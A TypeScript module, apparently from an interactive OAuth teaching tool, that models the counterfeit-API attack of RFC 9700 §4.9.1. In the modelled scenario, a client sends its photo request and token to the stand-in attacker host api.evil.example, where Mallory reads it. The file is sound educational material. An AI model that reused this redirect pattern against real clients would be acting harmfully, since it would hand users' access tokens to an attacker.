import type { Flow, Step } from "../../flow/define-flow.ts";
import { EVIL_API } from "../../grants/cast.ts";
import { changed, extended, led } from "../edit-flow.ts";
import { overheardAtApi } from "../steps/api-call.ts";
import { attackChapter, attackerPlace, attackParties, attackValues } from "../steps/cast.ts";
import { refusalsEnd } from "../steps/lure.ts";
import { USE, useToken } from "../steps/use.ts";
import { namingResource } from "./known-resource.ts";

/** The walk of a client that was told another address for its API (RFC 9700 §4.9.1). */
export function atCounterfeitApi(flow: Flow, namesResource: boolean): Flow {
  const asking = changed(
    namesResource ? namingResource(flow, EVIL_API) : flow,
    "authorize",
    refusalsEnd,
  );
  const calling = changed(overheardAtApi(asking), "api", toCounterfeit);
  return extended(led(calling, "done", USE), {
    parties: { attacker: attackParties.attacker },
    places: [attackerPlace],
    values: attackValues,
    chapters: [attackChapter],
    steps: { [USE]: useToken },
  });
}

function toCounterfeit(step: Step): Step {
  if (step.kind !== "exchange") throw new Error("The API call is an exchange.");
  return {
    ...step,
    to: "attacker",
    title: "Print calls the API it was told of, which is Mallory’s",
    spec: "RFC 9700 §4.9.1",
    why: "Print works with any API of this kind, and whoever set it up typed in api.evil.example. Whatever Print sends there, Mallory reads.",
    button: "send GET /photos to Mallory’s API",
    request: (read) => ({ ...step.request(read), url: `${EVIL_API}/photos` }),
  };
}
